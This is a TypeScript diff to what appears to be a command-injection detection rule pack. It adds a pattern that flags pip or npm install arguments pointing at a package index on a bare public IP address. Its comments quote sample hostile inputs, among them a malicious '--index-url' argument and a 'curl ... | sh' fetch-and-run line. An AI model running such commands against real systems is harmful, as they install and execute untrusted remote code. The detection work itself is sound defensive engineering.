@@ -585,6 +585,22 @@ const OPENS_WITH_SEPARATOR = /^\s{0,3}(?:[\w.-]{1,40}[ \t]{0,3})?(?:[;|&`)'"\n]|
 const FETCH_INTO_SHELL = /\b(?:curl|wget)\b[^|\n;&]{0,200}\|[ \t]{0,5}(?:sudo[ \t]{1,5})?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b/;
 
 /**
+ * A package name, then an index or registry on a bare public IPv4 address
+ * (`requests --index-url http://203.0.113.7/simple`): pip and npm install, and run the setup code
+ * of, what it serves. The package name is a plain word, which 400123's leading-argument test turns
+ * away; a package index is named by its host.
+ */
+const PACKAGE_INDEX_OPTION =
+  /^\s{0,3}[\w.@/-]{1,100}(?:[=<>~!]=?[\w.*]{1,40})?(?:\s{1,5}-[^\s]{1,100}){0,3}\s{1,5}--(?:index-url|extra-index-url|find-links|registry)(?:=|\s{1,5})['"]?https?:\/\/(\d{1,3}(?:\.\d{1,3}){3})\b/;
+const OPTION_INJECTION = CMDI_RULES.find((rule) => rule.id === 400123)!;
+
+function installsFromPublicAddress(lower: string): boolean {
+  if (lower.indexOf('--') < 0) return false;
+  const address = PACKAGE_INDEX_OPTION.exec(lower)?.[1];
+  return address !== undefined && judgeHost(address).kind === undefined;
+}
+
+/**
  * A download from a bare public IPv4 address piped into a shell, wherever the pipe sits: inside a
  * quoted `-c` argument (`-c "curl -s http://203.0.113.7/m.sh|sh"`), in a string handed to a
  * process call of some language (`system('curl -s 203.0.113.7/g|sh')`), in prose. Installers are
@@ -645,6 +661,7 @@ export const commandInjectionPack: RulePack = {
     if (v.lower.indexOf('printf') >= 0 && PRINTF_ESCAPES_SUBSTITUTION.test(v.raw.toLowerCase())) keep(DECODING_SUBSTITUTION);
     if (slicesCmdVariable(v)) keep(EVASIVE_EXPANSION);
     if (fetchesFromPublicAddressIntoShell(v.lower)) report(CHAINED_SHELL);
+    if (installsFromPublicAddress(v.lower)) keep(OPTION_INJECTION);
     inspectShellGrammar(v, keep);
   },
 };
